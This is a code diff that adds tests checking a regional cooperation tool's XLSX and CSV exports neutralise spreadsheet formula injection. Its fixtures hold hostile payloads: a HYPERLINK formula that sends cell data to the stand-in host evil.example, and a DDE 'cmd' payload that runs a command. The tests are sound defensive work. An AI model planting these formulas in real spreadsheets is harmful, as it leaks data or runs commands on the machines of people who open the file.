@@ -219,3 +219,66 @@ def test_new_subarea_scaffold_validates(tmp_path):
     assert validate.returncode == 0, validate.stdout
     assert run("new-subarea", "kulttuuri", root=root).returncode == 1
     assert run("new-subarea", "Kulttuuri ja vapaa-aika", root=root).returncode == 2
+
+
+# --- spreadsheet and CSV injection ---------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Avaa")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+
+
+def _hostile_region(tmp_path: Path) -> Path:
+    root = copy_root(MINIMAL, tmp_path / "root")
+    parties = root / "agreement" / "parties.yaml"
+    data = yaml.safe_load(parties.read_text(encoding="utf-8"))
+    data["parties"][1]["name"] = FORMULAS[0]
+    parties.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    hyte = root / "subareas" / "hyte.yaml"
+    data = yaml.safe_load(hyte.read_text(encoding="utf-8"))
+    data["goals"][0]["title"] = FORMULAS[1]
+    data["notes"] = FORMULAS[2]
+    data["resources"] = FORMULAS[3]
+    hyte.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    values = root / "measurements" / "values.csv"
+    values.write_text(values.read_text(encoding="utf-8") + "".join(
+        f'HYTE-1-M1,{area},2020,{value},"{note}"\n'
+        for area, value, note in [("region", -5, FORMULAS[0].replace('"', '""')), ("alfa", 3, "\tsarkain"),
+                                  ("beta", 2.5, "@SUM(1,2)"), ("hva", 1, "-2+3")]), encoding="utf-8")
+    from cooperation.checker import check
+    from cooperation.sources import load_sources
+    assert check(load_sources(root)).exit_code() == 0
+    return root
+
+
+def test_export_writes_every_text_as_text_never_as_a_formula(tmp_path, capsys):
+    from cooperation.cli import main
+    import zipfile
+    root = _hostile_region(tmp_path)
+    assert main(["export-xlsx", "--root", str(root), "--out", str(tmp_path / "out")]) == 0, capsys.readouterr().err
+    path = next((tmp_path / "out").glob("*-tyokirja.xlsx"))
+    with zipfile.ZipFile(path) as book:
+        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+    book = load_workbook(path)  # formulas would come back as data_type "f"
+    texts = {cell.value: cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    assert texts[FORMULAS[0]] == "s"  # the party name, Osapuolet!B3
+    assert book["Osapuolet"]["B3"].value == FORMULAS[0] and book["Osapuolet"]["B3"].data_type == "s"
+    for formula in FORMULAS:
+        assert any(formula in text for text in texts), formula
+    assert all(kind == "s" for kind in texts.values())
+
+
+def test_open_data_csv_neutralises_formula_cells(tmp_path):
+    import csv
+    import io
+    from cooperation import opendata
+    from cooperation.model import load as load_model
+    model, _ = load_model(_hostile_region(tmp_path))
+    rows = list(csv.DictReader(io.StringIO(opendata.measurements_csv(model).decode("utf-8"))))
+    notes = {(r["area"], r["year"]): r for r in rows}
+    assert notes[("region", "2020")]["note"] == "'" + FORMULAS[0]
+    assert notes[("region", "2020")]["value"] == "-5"  # numbers stay numbers
+    assert notes[("beta", "2020")]["note"] == "'@SUM(1,2)" and notes[("beta", "2020")]["value"] == "2.5"
+    assert notes[("hva", "2020")]["note"] == "'-2+3"
+    for row in rows:
+        for value in (row["indicator"], row["area"], row["note"]):
+            assert not value or value[0] not in "=+-@\t\r", row
